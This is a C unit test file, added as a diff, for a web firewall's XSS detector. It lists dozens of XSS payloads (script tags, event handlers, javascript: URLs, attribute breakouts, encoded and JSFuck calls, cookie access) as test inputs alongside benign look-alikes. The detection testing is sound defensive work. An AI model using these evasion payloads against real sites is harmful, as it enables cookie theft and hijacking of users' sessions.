@@ -1,0 +1,282 @@
+/* The xss detector (lw_xss*.c) with its default word table
+ * (conf/signatures/xss.words): class by class, attacks and the benign text
+ * that looks like them, edge cases, and that an admin's extra words count. */
+#include <stdlib.h>
+#include <apr_strings.h>
+
+#include "lw_test.h"
+#include "lw_detect.h"
+
+static const lw_words_t *words;
+
+typedef struct {
+    const char *value;
+    int verdict;
+    const char *why;            /* prefix of out.why; NULL: any */
+} xcase_t;
+
+static int run(const char *v, apr_size_t len, lw_detect_out_t *out)
+{
+    /* an exact-size heap copy: reading past len is a fault under ASan */
+    char *copy = malloc(len ? len : 1);
+    int rc;
+    memcpy(copy, v, len);
+    memset(out, 0, sizeof(*out));
+    rc = lw_detect_xss(words, copy, len, out);
+    free(copy);
+    return rc;
+}
+
+static void check_cases(const xcase_t *c, int n)
+{
+    int i;
+    for (i = 0; i < n; i++) {
+        lw_detect_out_t out;
+        apr_size_t len = strlen(c[i].value);
+        int rc = run(c[i].value, len, &out);
+        if (rc != c[i].verdict
+            || (rc && c[i].why && strncmp(out.why, c[i].why,
+                                          strlen(c[i].why)) != 0)
+            || (rc && out.off + out.len > len)) {
+            fprintf(stderr, "case \"%s\": got %d \"%s\", want %d \"%s\"\n",
+                    c[i].value, rc, rc ? out.why : "", c[i].verdict,
+                    c[i].why ? c[i].why : "");
+            CHECK(0);
+        }
+        else
+            CHECK(1);
+    }
+}
+
+#define S LW_DETECT_STRONG
+#define W LW_DETECT_WEAK
+#define N LW_DETECT_NONE
+
+/* Markup: elements that run code, event handlers of any name, script URLs
+ * in any attribute, style with script, srcdoc, namespaced tags. */
+static const xcase_t markup[] = {
+    { "<script>x()</script>", S, "html:<script" },
+    { "<SCRIPT SRC=//e.example/a.js>", S, "html:<SCRIPT" },
+    { "</title><script>", S, "html:<script" },
+    { "<x:script>y</x:script>", S, "html:<script" },
+    { "<iframe src=//e.example>", S, "html:<iframe" },
+    { "<embed src=a.swf>", S, "html:<embed" },
+    { "<base href=//e.example/>", S, "html:<base" },
+    { "<svg onload=f()>", S, "html:<svg onload" },
+    { "<svg/onload=f()>", S, "html:<svg onload" },
+    { "<img src=x onerror=f(1)>", S, "html:<img onerror" },
+    { "<p\nonclick\n=\nf()>", S, "html:<p onclick" },
+    { "<zz onnewevent=f()>", S, "html:<zz onnewevent" },
+    { "<a href=\"javascript:f()\">x</a>", S, "url:javascript" },
+    { "<a href=\" \tjava\tscript:f()\">", S, "url:javascript" },
+    { "<a href=JAVA\nSCRIPT:f()>", S, "url:javascript" },
+    { "<form action=vbscript:msgbox(1)>", S, "url:vbscript" },
+    { "<a href=data:text/html;base64,PHNjcmlwdD4=>", S, "url:data" },
+    { "<svg><set attributeName=href to=javascript:f()>", S, "url:javascript" },
+    { "<meta http-equiv=refresh content=\"0;url=javascript:f()\">", S,
+      "url:javascript" },
+    { "<div style=\"width:expression(f())\">", S, "html:style expression" },
+    { "<div style=\"x:expr/**/ession(f())\">", S, "html:style expression" },
+    { "<div style=\"background:url(\\6a avascript:f())\">", S,
+      "html:style url" },
+    { "<i srcdoc=\"<b>\">", S, "html:<i srcdoc" },
+    { "<x foo='><img src=x onerror=f()//'>", S, "html:<img onerror" },
+    { "<s c r i p t>x</s c r i p t>", S, "html:<script (spaced)" },
+    { "<f o r m action=x>", S, "html:<form (spaced)" },
+    { "<x: script>", S, "html:<script (spaced)" },
+    { "<svg onload", S, "html:<svg onload" },
+    { "<svg>", W, "html:<svg" },
+    { "</textarea>", W, "html:</textarea" },
+    { "<img src=a.png>", W, "html:<img" },
+};
+
+/* Values that break out of an attribute or of a script string. */
+static const xcase_t breakout[] = {
+    { "\"><svg onload=f()>", S, "html:<svg onload" },
+    { "\" onmouseover=\"f()", S, "html:onmouseover=" },
+    { "' autofocus onfocus=x '", S, "html:onfocus=" },
+    { "\"onbrandnew=f()", S, "html:onbrandnew=" },
+    { "x onbrandnew=y", N, NULL },
+    { "\";alert(1)//", S, "js:call alert" },
+    { "'-alert(x)-'", S, "js:call alert" },
+    { "</script><script>x</script>", S, "html:<script" },
+};
+
+/* Script: calls of sinks, templates, computed access, encodings. */
+static const xcase_t script[] = {
+    { "alert(1)", S, "js:call alert" },
+    { "alert()", S, "js:call alert" },
+    { "alert(xss)", S, "js:call alert" },
+    { "prompt(document.domain)", S, "js:call prompt" },
+    { "alert /* c */ (1)", S, "js:call alert" },
+    { "alert?.(1)", S, "js:call alert" },
+    { "al\\u0065rt(1)", S, "js:call alert" },
+    { "\\u{61}lert(1)", S, "js:call alert" },
+    { "alert`1`", S, "js:tpl alert" },
+    { "[].sort.call`${alert}1`", S, "js:tpl call" },
+    { "Function`a${1}`", S, "js:tpl function" },
+    { "Function('f()')()", S, "js:call function" },
+    { "setTimeout('f()',1)", S, "js:call settimeout" },
+    { "import('//e.example/x.js')", S, "js:call import" },
+    { "eval(atob('eA=='))", S, "js:call eval" },
+    { "(alert)(1)", S, "js:ref alert" },
+    { "[1].find(alert)", S, "js:ref alert" },
+    { "window['al'+'ert'](1)", S, "js:index window" },
+    { "(document)[\"cookie\"]", S, "js:index document" },
+    { "top[8680439..toString(30)](1)", S, "js:index top" },
+    { "x['constructor']", S, "js:index constructor" },
+    { "c=document.cookie", S, "js:document.cookie" },
+    { "u=top.location", S, "js:top.location" },
+    { "location='//e.example'", S, "js:assign location" },
+    { "y.innerHTML='<b>'", S, "js:assign innerhtml" },
+    { "onerror=alert;throw 1", S, "html:onerror=" },
+    { "a=alert,a(1)", W, "js:ref alert" },
+    { "(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]", S, "js:jsfuck" },
+    { "javascript:f()", S, "url:javascript" },
+    { "jaVa\tscript:f()", S, "url:javascript" },
+    { "data:text/html,<b>", S, "url:data" },
+};
+
+/* Benign text that looks a little like markup or script. */
+static const xcase_t benign[] = {
+    { "", N, NULL },
+    { "<", N, NULL },
+    { "a", N, NULL },
+    { "hello world", N, NULL },
+    { "<b>bold</b>", N, NULL },
+    { "a < b > c", N, NULL },
+    { "x<y", N, NULL },
+    { "I <3 you", N, NULL },
+    { "->", N, NULL },
+    { "<john@example.com>", N, NULL },
+    { "[link](https://example.com)", N, NULL },
+    { "if (a < b) return a;", N, NULL },
+    { "function of x", N, NULL },
+    { "function() { return 1; }", N, NULL },
+    { "f(x) = x^2", N, NULL },
+    { "alert me when the price drops", N, NULL },
+    { "price alert (daily)", N, NULL },
+    { "confirm(order) please", N, NULL },
+    { "what is eval() in python", N, NULL },
+    { "document title", N, NULL },
+    { "$(document).ready", N, NULL },
+    { "JavaScript: the good parts", N, NULL },
+    { "/docs/javascript:intro", N, NULL },
+    { "https://example.com/javascript/x.html", N, NULL },
+    { "top[5]", N, NULL },
+    { "location=paris", N, NULL },
+    { "only=true", N, NULL },
+    { "onion=1", N, NULL },
+    { "expression (math)", N, NULL },
+    { "regular expression (regex)", N, NULL },
+    { "data: 2024", N, NULL },
+    { "filter[status]=active", N, NULL },
+    { "<!-- comment -->", N, NULL },
+    { "<a b c d>", N, NULL },
+    { "<b onion", N, NULL },
+    { "\\u(8229)", N, NULL },
+    { "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
+      N, NULL },
+};
+
+/* The value is not NUL-terminated and only len bytes count. */
+static void test_length(void)
+{
+    lw_detect_out_t out;
+    const char *v = "alert(x)";
+    CHECK(run(v, 7, &out) == N);          /* "alert(x" */
+    CHECK(run(v, 8, &out) == S);
+    CHECK(run("<script>", 7, &out) == S); /* "<script" at the end */
+    CHECK(run("<scriptx", 7, &out) == S);
+    CHECK(run("javascript:x", 11, &out) == N);
+}
+
+/* Long and odd input: padding, unterminated quotes and comments, deep
+ * nesting, every byte value; the verdict must still come (and fast: the
+ * benchmark measures it, scripts/bench-detect). */
+static void test_edges(apr_pool_t *p)
+{
+    lw_detect_out_t out;
+    apr_size_t n = 8192, i;
+    char *b = apr_palloc(p, n);
+    static const char *const units[] = {
+        "<x onx=", "<a b=\"", "<a b='<a b=\"", "alert/*", "(((((", "[[[[",
+        "<!--", "\\u", "javascript", "<x style='/*", "'\"`", "x.", "top[",
+        "<x a='<y b=\"<z c=`"
+    };
+    unsigned u;
+    for (u = 0; u < sizeof(units) / sizeof(units[0]); u++) {
+        apr_size_t ul = strlen(units[u]);
+        int rc;
+        for (i = 0; i < n; i++)
+            b[i] = units[u][i % ul];
+        rc = run(b, n, &out);
+        CHECK(rc >= N && rc <= S);
+        CHECK(rc == N || out.off + out.len <= n);
+    }
+    /* an attack after 8 KiB of padding of every kind is still found */
+    for (i = 0; i + 20 < n; i++)
+        b[i] = "a <( [:= '\"`\t"[i % 13];
+    memcpy(b + n - 20, "<svg onload=f()>    ", 20);
+    CHECK(run(b, n, &out) == S && strncmp(out.why, "html:<svg", 9) == 0);
+    /* every byte value, once */
+    for (i = 0; i < 256; i++)
+        b[i] = (char)i;
+    CHECK(run(b, 256, &out) <= S);
+    /* unterminated everything */
+    CHECK(run("<img src=\"x onerror=f()", 23, &out) == S);
+    CHECK(run("<a href='javascript:f()", 23, &out) == S);
+    CHECK(run("alert(/*", 8, &out) == N);
+    CHECK(run("<", 1, &out) == N);
+    CHECK(run("\\u00", 4, &out) == N);
+}
+
+/* The words file loads; an admin's extra words count without a rebuild. */
+static void test_words(apr_pool_t *p)
+{
+    lw_words_t *w = lw_words_create(p, lw_xss_sections, lw_xss_nsections);
+    char *err = NULL;
+    lw_detect_out_t out;
+    const char *extra = "[sink]\nmyalert\n[handler]\nonmadeup\n";
+    const lw_words_t *saved = words;
+    CHECK(words != NULL && lw_words_count(words) > 200);
+    CHECK(lw_words_get(words, "ONLOAD", 6) != 0);
+    CHECK(lw_words_get(words, "one", 3) == 0);
+    CHECK(lw_words_section(words, "sink") >= 0);
+    CHECK(run("myalert(1)", 10, &out) == N);
+    CHECK(run("x onmadeup=y", 12, &out) == N);
+    CHECK(w && lw_words_add_text(w, extra, strlen(extra), "extra.xss.words",
+                                 &err) == APR_SUCCESS);
+    words = w;
+    CHECK(run("myalert(1)", 10, &out) == S);
+    CHECK(run("x onmadeup=y", 12, &out) == S);
+    words = saved;
+    /* a section the detector does not know is an error naming the line */
+    w = lw_words_create(p, lw_xss_sections, lw_xss_nsections);
+    CHECK(lw_words_add_text(w, "[sinks]\nx\n", 10, "bad.xss.words", &err)
+          != APR_SUCCESS && err && strstr(err, "bad.xss.words:1") != NULL);
+}
+
+int main(void)
+{
+    lw_words_t *w;
+    char *err = NULL;
+    const char *path;
+    LW_TEST_BEGIN(p);
+    path = apr_pstrcat(p, lw_test_srcdir(), "/conf/signatures/xss.words",
+                       NULL);
+    w = lw_words_create(p, lw_xss_sections, lw_xss_nsections);
+    if (!w || lw_words_add_file(w, path, &err) != APR_SUCCESS) {
+        fprintf(stderr, "cannot load %s: %s\n", path, err ? err : "?");
+        return 1;
+    }
+    words = w;
+    check_cases(markup, sizeof(markup) / sizeof(markup[0]));
+    check_cases(breakout, sizeof(breakout) / sizeof(breakout[0]));
+    check_cases(script, sizeof(script) / sizeof(script[0]));
+    check_cases(benign, sizeof(benign) / sizeof(benign[0]));
+    test_length();
+    test_edges(p);
+    test_words(p);
+    LW_TEST_END();
+}
